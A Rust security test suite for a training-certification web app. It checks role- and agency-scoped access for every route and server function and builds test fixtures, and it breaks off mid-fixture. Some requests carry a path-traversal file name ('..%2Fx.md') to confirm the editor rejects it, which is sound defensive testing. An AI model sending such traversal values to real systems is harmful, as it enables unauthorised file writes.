//! The security suite: what an outside review found, kept closed. Through the real router on a
//! fresh database (SQLite, or PostgreSQL when TEST_DATABASE_URL is set).
//!
//! - The access matrix: every server function and every form route × every role × an object of
//!   the caller's own agency and of a foreign one, against a declared rule. Deny by default: a
//!   server function or a route in `startup.rs` without a rule here fails the test.
//! - JWT attacks, cross-site posts, open redirects, sign-in throttling, CSV formulas, hostile
//!   spreadsheets, security headers, error bodies, request sizes, certificate enumeration.

mod common;

use app::ssr::db::entities::{account, agency, certificate, exemption, person, program};
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use common::{Resp, TestApp};
use sea_orm::{ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter};
use std::collections::{BTreeMap, BTreeSet};

// ---------------------------------------------------------------------------------------------
// The access matrix
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Who {
    Anonymous,
    Learner,
    Trainer,
    TeamManager,
    ChiCucManager,
    Admin,
}

const EVERYONE: [Who; 6] = [
    Who::Anonymous,
    Who::Learner,
    Who::Trainer,
    Who::TeamManager,
    Who::ChiCucManager,
    Who::Admin,
];

/// Whose object a call names: one of the caller's own agency (Đội QLTT số 1, inside both
/// managers' subtrees; the learner's own record) or a foreign one (the police unit PC03).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Target {
    Own,
    Foreign,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Allow,
    Deny,
}

use Expect::{Allow, Deny};

/// Objects the matrix's calls name.
struct Fixture {
    learner_person: i64,
    team1_person: i64,
    police_person: i64,
    team1_cert: String,
    police_cert: String,
    learner_cert: String,
    team1_exemption: i64,
    police_exemption: i64,
    team1_agency: i64,
    police_agency: i64,
    team1_program: i64,
    province_program: i64,
    own_upload: i64,
    learner_attempt: i64,
    police_attempt: i64,
    /// Sign-in names of `team1_person` and `police_person`.
    team1_username: String,
    police_username: String,
    /// A manager's right of someone else, at Đội số 1 and at the police unit.
    team1_grant: i64,
    police_grant: i64,
    /// An in-person class for Đội số 1 and one for the police unit, each with one session and
    /// one enrolled official (`team1_person`, `police_person`).
    team1_class: i64,
    police_class: i64,
    team1_session: i64,
    police_session: i64,
}

/// Who runs a class: the admin and the trainer (of every course) anywhere; a manager in their
/// subtree.
fn runner(w: Who, t: Target) -> Expect {
    match (w, t) {
        (Who::Admin | Who::Trainer, _) => Allow,
        (Who::TeamManager | Who::ChiCucManager, Target::Own) => Allow,
        _ => Deny,
    }
}

fn managers(w: Who) -> bool {
    matches!(w, Who::TeamManager | Who::ChiCucManager | Who::Admin)
}

/// A manager or admin, and for a foreign object only the admin.
fn scoped(w: Who, t: Target) -> Expect {
    match (w, t) {
        (Who::Admin, _) => Allow,
        (Who::TeamManager | Who::ChiCucManager, Target::Own) => Allow,
        _ => Deny,
    }
}

fn signed_in(w: Who) -> Expect {
    if w == Who::Anonymous { Deny } else { Allow }
}

fn roles(w: Who, allowed: &[Who]) -> Expect {
    if allowed.contains(&w) { Allow } else { Deny }
}

/// One server function: its rule and its arguments for a target.
struct Rule {
    expect: fn(Who, Target) -> Expect,
    args: fn(&Fixture, Target) -> String,
}

fn server_fn_rules() -> BTreeMap<&'static str, Rule> {
    let mut m: BTreeMap<&'static str, Rule> = BTreeMap::new();
    let none = |_: &Fixture, _: Target| String::new();
    m.insert(
        "whoami",
        Rule {
            expect: |_, _| Allow,
            args: none,
        },
    );
    m.insert(
        "verify_certificate",
        Rule {
            expect: |_, _| Allow,
            args: |f, t| {
                format!(
                    "number={}",
                    if t == Target::Own {
                        &f.team1_cert
                    } else {
                        &f.police_cert
                    }
                )
            },
        },
    );
    for ep in ["courses", "my_courses"] {
        m.insert(
            ep,
            Rule {
                expect: |w, _| signed_in(w),
                args: none,
            },
        );
    }
    // An official's own learning: only an account linked to a person on the roster (the demo's
    // trainer, managers and admin are not).
    m.insert(
        "transcript",
        Rule {
            expect: |w, _| roles(w, &[Who::Learner]),
            args: none,
        },
    );
    m.insert(
        "course_detail",
        Rule {
            expect: |w, _| signed_in(w),
            args: |_, _| "course=a-khung-phap-ly".into(),
        },
    );
    m.insert(
        "lesson_page",
        Rule {
            expect: |w, _| signed_in(w),
            args: |_, _| "course=a-khung-phap-ly&number=1&query=".into(),
        },
    );
    m.insert(
        "exam_page",
        Rule {
            // A learner's own exam; a trainer's (or the admin's) preview of one draw.
            expect: |w, _| roles(w, &[Who::Learner, Who::Trainer, Who::Admin]),
            args: |_, _| "course=a-khung-phap-ly".into(),
        },
    );
    m.insert(
        "attempt_result",
        Rule {
            // Only the attempt's own learner: anyone else is told it does not exist.
            expect: |w, t| {
                if w == Who::Learner && t == Target::Own {
                    Allow
                } else {
                    Deny
                }
            },
            args: |f, t| {
                let a = if t == Target::Own {
                    f.learner_attempt
                } else {
                    f.police_attempt
                };
                format!("course=a-khung-phap-ly&attempt={a}")
            },
        },
    );
    m.insert(
        "certificate_page",
        Rule {
            // The holder, a manager of the holder's subtree, an admin.
            expect: |w, t| match (w, t) {
                (Who::Learner, Target::Own) => Allow,
                (Who::Learner | Who::Trainer | Who::Anonymous, _) => Deny,
                _ => scoped(w, t),
            },
            args: |f, t| {
                format!(
                    "number={}",
                    if t == Target::Own {
                        &f.learner_cert
                    } else {
                        &f.police_cert
                    }
                )
            },
        },
    );
    m.insert(
        "library_status",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: none,
        },
    );
    // The question bank shows the answer key: the course's trainers and the admin only.
    m.insert(
        "question_stats",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: |_, _| "course=a-khung-phap-ly".into(),
        },
    );
    // A course's sources hold its answer keys: its trainers and the admin only.
    m.insert(
        "editor_course",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: |_, _| "course=a-khung-phap-ly".into(),
        },
    );
    // Recertifications I owe: anyone signed in (none for an account with no official).
    m.insert(
        "my_recertifications",
        Rule {
            expect: |w, _| signed_in(w),
            args: none,
        },
    );
    // Whom a substantive change reaches: trainers (their courses), managers (their subtree), the
    // admin.
    m.insert(
        "retraining",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::TeamManager, Who::ChiCucManager, Who::Admin]),
            args: none,
        },
    );
    m.insert(
        "authoring_guide",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: none,
        },
    );
    m.insert(
        "editor_file",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: |_, _| "course=a-khung-phap-ly&name=exam.md".into(),
        },
    );
    m.insert(
        "editor_save",
        Rule {
            // A name that is no file of the course: a permitted caller is told so, nothing saved.
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            args: |_, _| "course=a-khung-phap-ly&name=..%2Fx.md&text=x".into(),
        },
    );
    m.insert(
        "admin_overview",
        Rule {
            expect: |w, _| roles(w, &[Who::Admin]),
            args: none,
        },
    );
    for ep in ["agencies", "programs"] {
        m.insert(
            ep,
            Rule {
                expect: |w, _| if managers(w) { Allow } else { Deny },
                args: none,
            },
        );
    }
    m.insert(
        "coverage",
        Rule {
            expect: |w, _| if managers(w) { Allow } else { Deny },
            args: |_, _| "as_of=".into(),
        },
    );
    m.insert(
        "coverage_missing",
        Rule {
            expect: scoped,
            args: |f, t| {
                format!(
                    "agency_id={}&as_of=",
                    if t == Target::Own {
                        f.team1_agency
                    } else {
                        f.police_agency
                    }
                )
            },
        },
    );
    m.insert(
        "people",
        Rule {
            expect: scoped,
            args: |f, t| {
                format!(
                    "agency_id={}&search=&page=0",
                    if t == Target::Own {
                        f.team1_agency
                    } else {
                        f.police_agency
                    }
                )
            },
        },
    );
    for ep in ["person", "person_record"] {
        m.insert(
            ep,
            Rule {
                // Managers in scope and the admin; a learner only their own record.
                expect: |w, t| match (w, t) {
                    (Who::Learner, Target::Own) => Allow,
                    (Who::Learner | Who::Trainer | Who::Anonymous, _) => Deny,
                    _ => scoped(w, t),
                },
                args: |f, t| match t {
                    Target::Own => format!("id={}", f.learner_person),
                    Target::Foreign => format!("id={}", f.police_person),
                },
            },
        );
    }
    m.insert(
        "my_notices",
        Rule {
            expect: |w, _| signed_in(w),
            args: none,
        },
    );
    m.insert(
        "program_editor",
        Rule {
            // Managers read every target (the ones set above them read-only); the admin too.
            expect: |w, _| if managers(w) { Allow } else { Deny },
            args: |f, t| {
                format!(
                    "id={}",
                    if t == Target::Own {
                        f.team1_program
                    } else {
                        f.province_program
                    }
                )
            },
        },
    );
    for ep in ["record_outreach", "set_outreach_population"] {
        m.insert(
            ep,
            Rule {
                expect: scoped,
                args: |f, t| {
                    let a = if t == Target::Own {
                        f.team1_agency
                    } else {
                        f.police_agency
                    };
                    format!("agency_id={a}&held_on=&kind=sellers&title=&reached=0&population=0&source=")
                },
            },
        );
    }
    m.insert(
        "letterhead_page",
        Rule {
            // An admin: any agency; a manager: the agencies of their subtree.
            expect: scoped,
            args: |f, t| {
                format!(
                    "agency_id={}",
                    if t == Target::Own {
                        f.team1_agency
                    } else {
                        f.police_agency
                    }
                )
            },
        },
    );
    m.insert(
        "classes_page",
        Rule {
            expect: |w, _| signed_in(w),
            args: none,
        },
    );
    m.insert(
        "class_form_options",
        Rule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::TeamManager, Who::ChiCucManager, Who::Admin]),
            args: none,
        },
    );
    m.insert(
        "class_page",
        Rule {
            expect: runner,
            args: |f, t| {
                format!(
                    "id={}",
                    if t == Target::Own {
                        f.team1_class
                    } else {
                        f.police_class
                    }
                )
            },
        },
    );
    m.insert(
        "class_print",
        Rule {
            expect: runner,
            args: |f, t| {
                format!(
                    "id={}",
                    if t == Target::Own {
                        f.team1_class
                    } else {
                        f.police_class
                    }
                )
            },
        },
    );
    m.insert(
        "class_qr",
        Rule {
            expect: runner,
            args: |f, t| {
                format!(
                    "session_id={}",
                    if t == Target::Own {
                        f.team1_session
                    } else {
                        f.police_session
                    }
                )
            },
        },
    );
    m.insert(
        "checkin_page",
        Rule {
            // Any official (an account with a person record) may open a session's check-in page;
            // the code decides whether they are checked in.
            expect: |w, _| roles(w, &[Who::Learner]),
            args: |f, t| {
                format!(
                    "session_id={}",
                    if t == Target::Own {
                        f.team1_session
                    } else {
                        f.police_session
                    }
                )
            },
        },
    );
    m.insert(
        "rights_page",
        Rule {
            expect: |w, _| if managers(w) { Allow } else { Deny },
            args: none,
        },
    );
    m.insert(
        "roster_preview",
        Rule {
            // Only the uploader (the team manager here) or an admin sees an upload.
            expect: |w, _| roles(w, &[Who::TeamManager, Who::Admin]),
            args: |f, _| format!("id={}", f.own_upload),
        },
    );
    m
}

/// One form route (as written in `startup.rs`): its rule and the request for a target.
struct RouteRule {
    expect: fn(Who, Target) -> Expect,
    /// (method, concrete path, urlencoded body).
    request: fn(&Fixture, Target) -> (&'static str, String, String),
}

fn route_rules() -> BTreeMap<&'static str, RouteRule> {
    let mut m: BTreeMap<&'static str, RouteRule> = BTreeMap::new();
    let public = |_: Who, _: Target| Allow;
    m.insert(
        "/auth/sign-in",
        RouteRule {
            expect: public,
            request: |_, _| ("POST", "/auth/sign-in".into(), "username=x&password=y".into()),
        },
    );
    m.insert(
        "/auth/sign-out",
        RouteRule {
            expect: public,
            request: |_, _| ("POST", "/auth/sign-out".into(), String::new()),
        },
    );
    m.insert(
        "/lang/{code}",
        RouteRule {
            expect: public,
            request: |_, _| ("GET", "/lang/en".into(), String::new()),
        },
    );
    m.insert(
        "/scope/{agency_id}",
        RouteRule {
            // Only a preference: every request checks it against the rights held now.
            expect: public,
            request: |f, _| ("GET", format!("/scope/{}", f.police_agency), String::new()),
        },
    );
    m.insert(
        "/rights/grant",
        RouteRule {
            // A manager grants the manager role inside their subtree, to its officials.
            expect: scoped,
            request: |f, t| {
                let (who, a) = if t == Target::Own {
                    (&f.team1_username, f.team1_agency)
                } else {
                    (&f.police_username, f.police_agency)
                };
                (
                    "POST",
                    "/rights/grant".into(),
                    format!("username={who}&role=manager&agency_id={a}&reason=matrix"),
                )
            },
        },
    );
    m.insert(
        "/rights/{id}/withdraw",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let g = if t == Target::Own {
                    f.team1_grant
                } else {
                    f.police_grant
                };
                ("POST", format!("/rights/{g}/withdraw"), "reason=matrix".into())
            },
        },
    );
    m.insert(
        "/letterhead/save",
        RouteRule {
            // Empty fields: a permitted caller is sent back to the form with the problems.
            expect: scoped,
            request: |f, t| {
                let a = if t == Target::Own {
                    f.team1_agency
                } else {
                    f.police_agency
                };
                ("POST", "/letterhead/save".into(), format!("agency_id={a}"))
            },
        },
    );
    m.insert(
        "/editor/{course}/save",
        RouteRule {
            // A name that is no file of the course: a permitted caller gets 422, nothing saved.
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| {
                (
                    "POST",
                    "/editor/a-khung-phap-ly/save".into(),
                    "file=..%2Fx.md&text=x".into(),
                )
            },
        },
    );
    m.insert(
        "/editor/{course}/discard",
        RouteRule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| ("POST", "/editor/a-khung-phap-ly/discard".into(), "file=exam.md".into()),
        },
    );
    m.insert(
        "/editor/{course}/import",
        RouteRule {
            // No file: a permitted caller is sent back to the course to choose one.
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| ("MULTIPART", "/editor/a-khung-phap-ly/import".into(), String::new()),
        },
    );
    m.insert(
        "/editor/{course}/image",
        RouteRule {
            // No image: a permitted caller is sent back to the course to choose one.
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| ("MULTIPART", "/editor/a-khung-phap-ly/image".into(), String::new()),
        },
    );
    m.insert(
        "/editor/{course}/publish",
        RouteRule {
            // No kind: a permitted caller gets 422, nothing published.
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| {
                (
                    "POST",
                    "/editor/a-khung-phap-ly/publish".into(),
                    "kind=&reason=x".into(),
                )
            },
        },
    );
    m.insert(
        "/retraining/open",
        RouteRule {
            // No publish named: a permitted caller gets 422, nothing opened.
            expect: |w, _| roles(w, &[Who::Trainer, Who::TeamManager, Who::ChiCucManager, Who::Admin]),
            request: |_, _| {
                (
                    "POST",
                    "/retraining/open".into(),
                    "publish=x&deadline=2030-01-01".into(),
                )
            },
        },
    );
    m.insert(
        "/classes/save",
        RouteRule {
            // Empty fields: a permitted caller is sent back to the form with the problems.
            expect: |w, _| roles(w, &[Who::Trainer, Who::TeamManager, Who::ChiCucManager, Who::Admin]),
            request: |f, t| {
                let a = if t == Target::Own {
                    f.team1_agency
                } else {
                    f.police_agency
                };
                ("POST", "/classes/save".into(), format!("agency_id={a}"))
            },
        },
    );
    m.insert(
        "/classes/{id}/invite",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let (c, a) = if t == Target::Own {
                    (f.team1_class, f.team1_agency)
                } else {
                    (f.police_class, f.police_agency)
                };
                ("POST", format!("/classes/{c}/invite"), format!("agency_id={a}"))
            },
        },
    );
    m.insert(
        "/classes/{id}/enrol",
        RouteRule {
            // An unknown code: a permitted caller is told so on the class page.
            expect: runner,
            request: |f, t| {
                let c = if t == Target::Own {
                    f.team1_class
                } else {
                    f.police_class
                };
                ("POST", format!("/classes/{c}/enrol"), "code=NO-SUCH-CODE".into())
            },
        },
    );
    m.insert(
        "/classes/{id}/people/{person}/cancel",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let (c, p) = if t == Target::Own {
                    (f.team1_class, f.team1_person)
                } else {
                    (f.police_class, f.police_person)
                };
                ("POST", format!("/classes/{c}/people/{p}/cancel"), String::new())
            },
        },
    );
    m.insert(
        "/classes/{id}/people/{person}/confirm",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let (c, p) = if t == Target::Own {
                    (f.team1_class, f.team1_person)
                } else {
                    (f.police_class, f.police_person)
                };
                ("POST", format!("/classes/{c}/people/{p}/confirm"), String::new())
            },
        },
    );
    m.insert(
        "/classes/{id}/sessions/{sid}/attendance",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let (c, s, p) = if t == Target::Own {
                    (f.team1_class, f.team1_session, f.team1_person)
                } else {
                    (f.police_class, f.police_session, f.police_person)
                };
                (
                    "POST",
                    format!("/classes/{c}/sessions/{s}/attendance"),
                    format!("present={p}"),
                )
            },
        },
    );
    m.insert(
        "/classes/{id}/scores",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let (c, p) = if t == Target::Own {
                    (f.team1_class, f.team1_person)
                } else {
                    (f.police_class, f.police_person)
                };
                ("POST", format!("/classes/{c}/scores"), format!("score_{p}=50"))
            },
        },
    );
    m.insert(
        "/classes/{id}/export/{file}",
        RouteRule {
            expect: runner,
            request: |f, t| {
                let c = if t == Target::Own {
                    f.team1_class
                } else {
                    f.police_class
                };
                ("GET", format!("/classes/{c}/export/danh-sach.xlsx"), String::new())
            },
        },
    );
    m.insert(
        "/classes/{id}/cancel",
        RouteRule {
            // Without the confirmation: a permitted caller is sent back to the class page.
            expect: runner,
            request: |f, t| {
                let c = if t == Target::Own {
                    f.team1_class
                } else {
                    f.police_class
                };
                ("POST", format!("/classes/{c}/cancel"), String::new())
            },
        },
    );
    m.insert(
        "/classes/{id}/join",
        RouteRule {
            // An official, for a class of their own unit (the learner is in Đội số 1).
            expect: |w, t| {
                if w == Who::Learner && t == Target::Own {
                    Allow
                } else {
                    Deny
                }
            },
            request: |f, t| {
                let c = if t == Target::Own {
                    f.team1_class
                } else {
                    f.police_class
                };
                ("POST", format!("/classes/{c}/join"), String::new())
            },
        },
    );
    m.insert(
        "/classes/{id}/sheet",
        RouteRule {
            // No file: a permitted caller is sent back to the class page to choose one.
            expect: runner,
            request: |f, t| {
                let c = if t == Target::Own {
                    f.team1_class
                } else {
                    f.police_class
                };
                ("MULTIPART", format!("/classes/{c}/sheet"), String::new())
            },
        },
    );
    m.insert(
        "/checkin/{sid}",
        RouteRule {
            // An official with a wrong code is told so on the check-in page; staff accounts
            // without a person record cannot check in.
            expect: |w, _| roles(w, &[Who::Learner]),
            request: |f, t| {
                let s = if t == Target::Own {
                    f.team1_session
                } else {
                    f.police_session
                };
                ("POST", format!("/checkin/{s}"), "c=00000000".into())
            },
        },
    );
    m.insert(
        "/healthz",
        RouteRule {
            expect: public,
            request: |_, _| ("GET", "/healthz".into(), String::new()),
        },
    );
    m.insert(
        "/.well-known/taphuan-cert-key.pem",
        RouteRule {
            expect: public,
            request: |_, _| ("GET", "/.well-known/taphuan-cert-key.pem".into(), String::new()),
        },
    );
    m.insert(
        "/content/{course}/{*path}",
        RouteRule {
            expect: public,
            request: |_, _| {
                (
                    "GET",
                    "/content/f-de-an-319-gia-lai/images/moc-thoi-gian.svg".into(),
                    String::new(),
                )
            },
        },
    );
    m.insert(
        "/coverage/export/{file}",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let a = if t == Target::Own {
                    f.team1_agency
                } else {
                    f.police_agency
                };
                ("GET", format!("/coverage/export/matrix.csv?agency={a}"), String::new())
            },
        },
    );
    m.insert(
        "/courses/{course}/questions/export/{file}",
        RouteRule {
            expect: |w, _| roles(w, &[Who::Trainer, Who::Admin]),
            request: |_, _| {
                (
                    "GET",
                    "/courses/a-khung-phap-ly/questions/export/items.csv".into(),
                    String::new(),
                )
            },
        },
    );
    m.insert(
        "/roster/upload",
        RouteRule {
            expect: |w, _| if managers(w) { Allow } else { Deny },
            // No file: a permitted caller is sent back to the form ("missing"), others refused.
            request: |_, _| ("MULTIPART", "/roster/upload".into(), String::new()),
        },
    );
    for route in ["/roster/apply", "/roster/cancel"] {
        m.insert(
            route,
            RouteRule {
                expect: |w, _| roles(w, &[Who::TeamManager, Who::Admin]),
                request: |f, _| {
                    // Cancel is tried on the real upload last (see `run_route`), apply with a
                    // wrong confirmation only.
                    (
                        "POST",
                        "{route}".into(),
                        format!("upload={}&mode=complete&confirm=999999", f.own_upload),
                    )
                },
            },
        );
    }
    for route in ["/notices/read", "/notices/email"] {
        m.insert(
            route,
            RouteRule {
                // One's own notices: any signed-in account.
                expect: |w, _| signed_in(w),
                request: |_, _| ("POST", "{route}".into(), "email=on".into()),
            },
        );
    }
    m.insert(
        "/auth/forgot",
        RouteRule {
            // Anyone may ask; the answer never says whether the account exists.
            expect: public,
            request: |_, _| ("POST", "/auth/forgot".into(), "username=hocvien".into()),
        },
    );
    m.insert(
        "/auth/activate",
        RouteRule {
            // Anyone may try a code (throttled like sign-in); a wrong one changes nothing.
            expect: public,
            request: |_, _| ("POST", "/auth/activate".into(), "username=x&code=y&password=z".into()),
        },
    );
    m.insert(
        "/accounts/codes",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let a = if t == Target::Own {
                    f.team1_agency
                } else {
                    f.police_agency
                };
                ("POST", "/accounts/codes".into(), format!("agency_id={a}&format=print"))
            },
        },
    );
    m.insert(
        "/people/{id}/reset-code",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let p = if t == Target::Own {
                    f.team1_person
                } else {
                    f.police_person
                };
                ("POST", format!("/people/{p}/reset-code"), String::new())
            },
        },
    );
    m.insert(
        "/people/{id}/evidence.zip",
        RouteRule {
            // The evidence pack: a manager of the official's subtree, or an admin.
            expect: scoped,
            request: |f, t| {
                let p = if t == Target::Own {
                    f.team1_person
                } else {
                    f.police_person
                };
                ("GET", format!("/people/{p}/evidence.zip"), String::new())
            },
        },
    );
    m.insert(
        "/programs/save",
        RouteRule {
            expect: |w, t| match (w, t) {
                (Who::Admin, _) => Allow,
                (Who::TeamManager | Who::ChiCucManager, Target::Own) => Allow,
                _ => Deny,
            },
            request: |f, t| {
                let id = if t == Target::Own {
                    f.team1_program
                } else {
                    f.province_program
                };
                ("POST", "/programs/save".into(), format!("id={id}&reason="))
            },
        },
    );
    m.insert(
        "/people/{id}/exemptions",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let p = if t == Target::Own {
                    f.team1_person
                } else {
                    f.police_person
                };
                (
                    "POST",
                    format!("/people/{p}/exemptions"),
                    format!("program_id={}&reason=", f.province_program),
                )
            },
        },
    );
    m.insert(
        "/exemptions/{id}/withdraw",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let e = if t == Target::Own {
                    f.team1_exemption
                } else {
                    f.police_exemption
                };
                ("POST", format!("/exemptions/{e}/withdraw"), "reason=".into())
            },
        },
    );
    m.insert(
        "/certificates/{number}/revoke",
        RouteRule {
            expect: scoped,
            request: |f, t| {
                let n = if t == Target::Own {
                    &f.team1_cert
                } else {
                    &f.police_cert
                };
                ("POST", format!("/certificates/{n}/revoke"), "reason=".into())
            },
        },
    );
    // The learner's forms: an account linked to an official on the roster.
    let official = |w: Who, _: Target| roles(w, &[Who::Learner]);
    m.insert(
        "/courses/{course}/lessons/{n}/read",
        RouteRule {
            expect: official,
            request: |_, _| ("POST", "/courses/a-khung-phap-ly/lessons/1/read".into(), String::new()),
        },
    );
    m.insert(
        "/courses/{course}/exam/start",
        RouteRule {
            expect: official,
            request: |_, _| ("POST", "/courses/a-khung-phap-ly/exam/start".into(), String::new()),
        },
    );
    // Someone else's attempt is nobody's to submit or save into.
    let own_attempt = |w: Who, t: Target| {
        if w == Who::Learner && t == Target::Own {
            Allow
        } else {
            Deny
        }
    };
    m.insert(
        "/courses/{course}/exam/submit",
        RouteRule {
            expect: own_attempt,
            request: |f, t| {
                let a = if t == Target::Own {
                    f.learner_attempt
                } else {
                    f.police_attempt
                };
                (
                    "POST",
                    "/courses/a-khung-phap-ly/exam/submit".into(),
                    format!("attempt={a}&seq=1"),
                )
            },
        },
    );
    m.insert(
        "/courses/{course}/exam/save",
        RouteRule {
            expect: own_attempt,
            request: |f, t| {
                let a = if t == Target::Own {
                    f.learner_attempt
                } else {
                    f.police_attempt
                };
                (
                    "POST",
                    "/courses/a-khung-phap-ly/exam/save".into(),
                    format!("attempt={a}&q0=x"),
                )
            },
        },
    );
    m
}

/// Every `.route("PATH", …)` in `startup.rs`: the router's own list, so a new route shows up here.
fn routes_in_startup() -> BTreeSet<String> {
    let src = include_str!("../src/startup.rs");
    let mut out = BTreeSet::new();
    let mut rest = src;
    while let Some(i) = rest.find(".route(") {
        rest = &rest[i + ".route(".len()..];
        let Some(q) = rest.find('"') else { break };
        let after = &rest[q + 1..];
        let Some(end) = after.find('"') else { break };
        out.insert(after[..end].to_string());
        rest = &after[end..];
    }
    out
}

async fn fixture(app: &TestApp) -> Fixture {
    let db = &app.state.db;
    let team1_agency = app.agency_id("GL-QLTT-D01").await;
    let police_agency = app.agency_id("GL-CA-PC03").await;
    let learner = account::Entity::find()
        .filter(account::Column::Username.eq("hocvien"))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    let learner_person = learner.person_id.unwrap();
    let someone_in = |agency_id: i64| async move {
        person::Entity::find()
            .filter(person::Column::AgencyId.eq(agency_id))
            .filter(person::Column::Active.eq(true))
            .filter(person::Column::Id.ne(learner_person))
            .one(db)
            .await
            .unwrap()
            .unwrap()
            .id
    };
    let team1_person = someone_in(team1_agency).await;
    let police_person = someone_in(police_agency).await;
    let cert_for = |pid: i64| common::certify(db, pid, "e-to-chuc-luc-luong-qltt");
    let team1_cert = cert_for(team1_person).await;
    let police_cert = cert_for(police_person).await;
    let learner_cert = cert_for(learner_person).await;
    let province_program = program::Entity::find()
        .filter(program::Column::Code.eq("DA319-TONGQUAN-2026"))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    let exempt = |pid: i64, program_id: i64| async move {
        exemption::ActiveModel {
            program_id: Set(program_id),
            person_id: Set(pid),
            reason: Set("Kiểm thử".into()),
            approved_by: Set("Kiểm thử".into()),
            created_at: Set(chrono::Utc::now()),
            recorded_by: Set(None),
            withdrawn_at: Set(None),
            withdrawn_by: Set(None),
            withdrawal_reason: Set(None),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap()
        .id
    };
    let team1_exemption = exempt(team1_person, province_program.id).await;
    let police_exemption = exempt(police_person, province_program.id).await;
    let mut team1_program: program::ActiveModel = province_program.clone().into();
    team1_program.id = sea_orm::ActiveValue::NotSet;
    team1_program.code = Set("TEST-DOI1".into());
    team1_program.root_agency_id = Set(team1_agency);
    let team1_program = team1_program.insert(db).await.unwrap().id;
    // An upload of the team manager's, and an attempt of the learner's.
    let token = app.sign_in_demo("quanly.doi1").await;
    let r = upload(
        app,
        &token,
        "a.csv",
        b"ma can bo,ho va ten,ma don vi,chuc vu,nhiem vu thuc thi\n",
    )
    .await;
    let own_upload = r
        .location
        .as_deref()
        .and_then(|l| l.split("upload=").nth(1))
        .and_then(|s| s.split('&').next())
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("upload: {:?} {}", r.location, r.body));
    let attempt_of = |person: i64| async move {
        use app::ssr::db::entities::attempt;
        attempt::ActiveModel {
            person_id: Set(person),
            course_id: Set("a-khung-phap-ly".into()),
            attempt_no: Set(1),
            course_hash: Set("test".into()),
            exam_hash: Set("test".into()),
            seed: Set(42),
            questions: Set("[]".into()),
            started_at: Set(chrono::Utc::now()),
            submitted_at: Set(Some(chrono::Utc::now())),
            submit_seq: Set(Some(1)),
            responses: Set(Some("[]".into())),
            result: Set(Some("[]".into())),
            score_percent: Set(Some(0)),
            passed: Set(Some(false)),
            late: Set(false),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap()
        .id
    };
    let learner_attempt = attempt_of(learner_person).await;
    let police_attempt = attempt_of(police_person).await;
    let username_of = |pid: i64| async move {
        account::Entity::find()
            .filter(account::Column::PersonId.eq(pid))
            .one(db)
            .await
            .unwrap()
            .unwrap()
    };
    let team1_account = username_of(team1_person).await;
    let police_account = username_of(police_person).await;
    let manager_of = |account_id: i64, agency_id: i64| async move {
        use app::domain::identity::Role;
        app::ssr::rights::ensure(db, account_id, Role::Manager, Some(agency_id), None, "fixture", None)
            .await
            .unwrap()
            .unwrap()
    };
    let team1_grant = manager_of(team1_account.id, team1_agency).await;
    let police_grant = manager_of(police_account.id, police_agency).await;
    let class_at = |agency_id: i64, person_id: i64| async move {
        use app::ssr::db::entities::{class, class_enrolment, class_session};
        let now = chrono::Utc::now();
        let c = class::ActiveModel {
            title: Set("Lớp kiểm thử".into()),
            trainers: Set(String::new()),
            // Every course: the learner lacks at least one, so the class is open to them.
            course_ids: Set(
                r#"["a-khung-phap-ly","b-hang-gia-che-tai","c-bao-ve-nguoi-tieu-dung","d-kiem-tra-xu-ly-vi-pham","e-to-chuc-luc-luong-qltt","f-de-an-319-gia-lai"]"#
                    .into(),
            ),
            agency_id: Set(agency_id),
            capacity: Set(10),
            rule: Set("attendance_class_exam".into()),
            min_attendance_percent: Set(100),
            pass_percent: Set(70),
            created_by: Set(learner.id),
            created_at: Set(now),
            cancelled_at: Set(None),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
        let s = class_session::ActiveModel {
            class_id: Set(c.id),
            // Tomorrow: a class still to come.
            starts_at: Set(now + chrono::Duration::days(1)),
            ends_at: Set(now + chrono::Duration::days(1) + chrono::Duration::hours(3)),
            place: Set("Hội trường".into()),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
        class_enrolment::ActiveModel {
            class_id: Set(c.id),
            person_id: Set(person_id),
            status: Set("enrolled".into()),
            exam_score: Set(None),
            scored_by: Set(None),
            created_at: Set(now),
            updated_at: Set(now),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
        (c.id, s.id)
    };
    let (team1_class, team1_session) = class_at(team1_agency, team1_person).await;
    let (police_class, police_session) = class_at(police_agency, police_person).await;
    Fixture {
        team1_class,
        police_class,
        team1_session,
